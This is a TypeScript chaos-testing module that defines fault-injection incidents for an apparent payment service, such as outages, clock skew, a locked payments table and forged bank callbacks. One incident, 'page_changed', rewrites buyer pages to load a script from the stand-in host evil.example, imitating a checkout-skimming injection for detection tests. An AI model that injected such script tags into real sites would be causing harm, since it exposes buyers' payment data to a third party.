import { startCreating } from "../chaos/creating";
import { cardWith } from "../support/cards";
import { advance, calmBank, changeBank, sendWebhook } from "../support/controls";
import { Merchant } from "../support/merchant";
import { demo, sandbox } from "../support/product";
import { returnFromBank } from "../support/returning";
import { WebhookReceiver } from "../support/webhook-receiver";
import type { Incident } from "./incident";
import type { Stage } from "./stage";

// This module reads the instance's addresses when it is loaded, so it is imported after the start.

/**
 * The twelve incidents in lanes. Lanes of a group are made at the same time, the incidents of a lane and the groups one
 * after the other: what a cause would disturb is in another group or in the same lane.
 */
export const groups = (stage: Stage): readonly (readonly (readonly Incident[])[])[] => [
  [
    [redisGone(stage)],
    [clockOff(stage)],
    [diskFull(stage)],
    [certificateEnding(stage)],
    [pageChanged(stage)],
    // Without the Inngest server webhooks come late.
    [jobsGone(stage), receiverFailing()],
    [bankDown(), bankSlow(), bankHashMismatch()],
  ],
  [[poolExhausted(stage)]],
  [[databaseSlow(stage)]],
];

const redisGone = ({ redis }: Stage): Incident => ({
  kind: "redis_gone",
  made: `${redis.isReal ? "Redis" : "a server in Redis's place"} is killed`,
  missing: null,
  cause: () => redis.end(),
  end: () => redis.start(),
});

const clockOff = ({ clock }: Stage): Incident => ({
  kind: "clock_off",
  made: "the clock of one process is moved by 5 s (libfaketime)",
  missing: clock ? null : "libfaketime is not installed (Debian: apt-get install faketime)",
  cause: async () => clock?.move(5),
  end: async () => clock?.move(0),
});

const diskFull = ({ disk }: Stage): Incident => ({
  kind: "disk_full",
  made: "the small disk of the log of one process is filled",
  missing: disk ? null : "only root can mount a small disk",
  cause: async () => disk?.fill(),
  end: async () => disk?.empty(),
});

const certificateEnding = ({ panel }: Stage): Incident => ({
  kind: "certificate_ending",
  made: "the proxy of the panel serves a certificate that ends in 20 days",
  missing: null,
  cause: async () => panel.serve("ending"),
  end: async () => panel.serve("good"),
});

const pageChanged = ({ cluster }: Stage): Incident => ({
  kind: "page_changed",
  made: "the proxy adds a script to the pages of buyers",
  missing: null,
  cause: async () =>
    cluster.changePages((html) => html.replace("</body>", '<script src="https://evil.example/x.js"></script></body>')),
  end: async () => cluster.changePages(null),
});

const jobsGone = (stage: Stage): Incident => ({
  kind: "jobs_gone",
  made: "the Inngest server is stopped",
  missing: null,
  cause: () => stage.stopInngest(),
  end: () => stage.startInngest(),
});

/** How often an event is sent to the receiver that fails, ms. */
const eventEveryMs = 8_000;

function receiverFailing(): Incident {
  let receiver: WebhookReceiver | undefined;
  let timer: NodeJS.Timeout | undefined;
  return {
    kind: "receiver_failing",
    made: "a merchant's receiver answers each webhook with 500",
    missing: null,
    async cause() {
      receiver = await WebhookReceiver.open(demo);
      receiver.answer(500);
      await sendWebhook(demo);
      timer = setInterval(() => void sendWebhook(demo).catch(() => undefined), eventEveryMs);
    },
    async end() {
      clearInterval(timer);
      receiver?.answer(200);
      await sendWebhook(demo);
    },
  };
}

const merchant = new Merchant(sandbox.apiUrl, demo);

/** Sends some buyers to the bank and back at once, and waits until each has an answer. */
const payAtOnce = async (buyers: number, outcome = "approved"): Promise<void> => {
  const card = cardWith({ outcome });
  await Promise.all(
    Array.from({ length: buyers }, async () => {
      await (await returnFromBank(merchant, card)).answer;
    }),
  );
};

const bankDown = (): Incident => ({
  kind: "bank_down",
  made: "the bank breaks each connection off while five buyers come back",
  missing: null,
  async cause() {
    await changeBank({ down: true });
    await payAtOnce(5);
  },
  async end() {
    await calmBank();
    await payAtOnce(1);
  },
});

/** How long the slow bank holds its answers back, ms; more than 5 s counts as slow (D-374). */
const slowMs = 6_000;

const bankSlow = (): Incident => ({
  kind: "bank_slow",
  made: "the bank answers five captures after 6 s",
  missing: null,
  async cause() {
    await changeBank({ latencyMs: slowMs, operations: ["capture"] });
    await payAtOnce(5);
  },
  async end() {
    await calmBank();
    // Slow calls have to become less than a tenth of those of five minutes (D-374).
    for (let round = 0; round < 20; round++) await payAtOnce(5);
  },
});

const bankHashMismatch = (): Incident => ({
  kind: "bank_hash_mismatch",
  made: "five forms come back with a forged hash",
  missing: null,
  cause: () => payAtOnce(5, "callback_forged_hash"),
  async end() {
    // It ends when half an hour has had none (D-374).
    await advance(31 * 60);
  },
});

/** The payments that are created per second while the table of payments is locked. */
const creationsPerSecond = 20;

function poolExhausted(stage: Stage): Incident {
  let unlock: (() => Promise<void>) | undefined;
  return {
    kind: "pool_exhausted",
    made: `the table of payments is locked while ${creationsPerSecond} payments a second are created`,
    missing: null,
    async cause() {
      const client = await stage.connect();
      await client.query("begin");
      await client.query("lock table payment in access exclusive mode");
      const creating = startCreating(merchant, creationsPerSecond);
      unlock = async () => {
        await client.query("rollback");
        await client.end();
        await creating.stop();
      };
    },
    async end() {
      await unlock?.();
      unlock = undefined;
    },
  };
}

/** How long each answer of the database is held back, ms; more than 500 ms counts as slow. */
const databaseDelayMs = 700;

const databaseSlow = ({ address }: Stage): Incident => ({
  kind: "database_slow",
  made: `each answer of PostgreSQL comes ${databaseDelayMs} ms late`,
  missing: null,
  cause: async () => address.delay(databaseDelayMs),
  end: async () => address.delay(0),
});
